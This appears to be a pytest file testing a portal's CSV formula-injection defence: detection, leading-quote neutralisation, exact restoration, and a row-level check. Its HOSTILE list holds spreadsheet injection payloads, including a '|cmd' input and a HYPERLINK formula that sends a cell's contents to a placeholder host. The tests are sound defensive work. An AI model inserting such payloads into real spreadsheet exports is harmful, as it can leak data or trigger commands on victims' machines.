"""Formula neutralisation: what counts as dangerous, and the exact inverse used on import."""
import random

import pytest

from portal.services.csv_cells import ROW_CHECK
from portal.services.csv_cells import dangerous
from portal.services.csv_cells import neutralise
from portal.services.csv_cells import restore

HOSTILE = ["=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "|cmd", "%0A", " =1+2",
           "a,=1+2", 'x";=1+2', '=HYPERLINK("http://x/?"&A1)', "'=1", "''+1"]
HARMLESS = ["Ana", "ana@example.com", "O'Brien", "Team A; Team B", "'quoted'", "a-b", "x=1",
            ""]


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_cells_get_a_leading_quote(value):
    assert dangerous(value)
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", HARMLESS)
def test_harmless_cells_stay_as_they_are(value):
    assert neutralise(value) == value


def test_restore_undoes_neutralise_exactly_and_nothing_else():
    rng = random.Random(5)
    alphabet = "ab '=+-@|%,;\"\t\r\n "
    for _ in range(20_000):
        value = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 6)))
        assert restore(neutralise(value)) == value
        if not dangerous(value):
            assert restore(value) == value


def test_the_row_check_finds_every_dangerous_cell():
    rng = random.Random(6)
    alphabet = "ab '=+-@|%,;\"\t\r\n "
    for _ in range(20_000):
        cells = ["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 4))) for _ in range(3)]
        if any(dangerous(c) for c in cells):
            assert ROW_CHECK.search("\x1f" + "\x1f".join(cells))
